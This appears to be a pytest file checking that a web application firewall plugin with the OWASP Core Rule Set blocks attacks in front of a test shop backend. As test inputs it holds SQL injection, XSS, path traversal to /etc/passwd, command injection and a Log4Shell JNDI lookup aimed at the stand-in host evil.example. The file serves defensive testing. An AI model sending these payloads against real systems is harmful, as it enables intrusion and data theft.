"""The example plugin ``waf`` with the OWASP Core Rule Set, before a backend, in a real Envoy."""

from __future__ import annotations

import importlib.util
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from .gateway_alone import Alone, route
from .test_gateway_login import Mirror

WAF = Path(__file__).parents[2] / "examples/plugins/waf"
SETUP, RULES = "/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules/*.conf"
BROWSER = {"User_Agent": "Mozilla/5.0", "Accept": "text/html"}
FORM = {"Content_Type": "application/x-www-form-urlencoded"}

if importlib.util.find_spec("libmodsecurity") is None and sys.version_info >= (3, 14):
    pytest.skip("libmodsecurity has no wheel for this Python", allow_module_level=True)


class Shop(Mirror):
    do_POST = Mirror.do_GET


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Alone]:
    alone = Alone(tmp_path_factory.mktemp("firewall"), Shop)
    spec = {"path": str(WAF), "isolation": "Process", "memory": "400Mi", "settings": {"rules": [SETUP, RULES]}}
    there = {"name": "waf", "namespace": "default"}
    shop = route("shop")
    extension = {"group": "gateway.sampan.dev", "kind": "Plugin", "name": "waf"}
    shop["spec"]["rules"][0]["filters"] = [{"type": "ExtensionRef", "extensionRef": extension}]
    try:
        alone.write(
            {"apiVersion": "gateway.sampan.dev/v1alpha1", "kind": "Plugin", "metadata": there, "spec": spec}, shop
        )
        alone.start()
        alone.serves("/shop", **BROWSER)
        yield alone
    finally:
        alone.close()


@pytest.mark.parametrize(
    "path",
    [
        "/shop?q=1%27%20OR%20%271%27=%271%20--%20",
        "/shop?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/shop?file=../../../../etc/passwd",
        "/shop?x=;cat%20/etc/passwd",
        "/shop?x=$%7Bjndi:ldap://evil.example/a%7D",
    ],
)
def test_attacks_do_not_pass(front: Alone, path: str) -> None:
    assert front.status(path, **BROWSER) == 403


def test_what_is_none_passes(front: Alone) -> None:
    for path in ("/shop", "/shop/cart?page=2&sort=price", "/shop?q=rock%20%26%20roll"):
        assert front.status(path, **BROWSER) == 200, path
    assert front.ask("/shop", "POST", b"name=Ada&comment=a+fine+shop", **BROWSER, **FORM).status == 200


def test_bodies_are_looked_at(front: Alone) -> None:
    attack = b"name=1' UNION SELECT password FROM users -- "
    assert front.ask("/shop", "POST", attack, **BROWSER, **FORM).status == 403
    assert front.ask("/shop", "POST", b"x=" + b"a" * (1 << 20), **BROWSER, **FORM).status == 413
    assert front.status("/shop", User_Agent="nikto/2.1", Accept="*/*") == 403
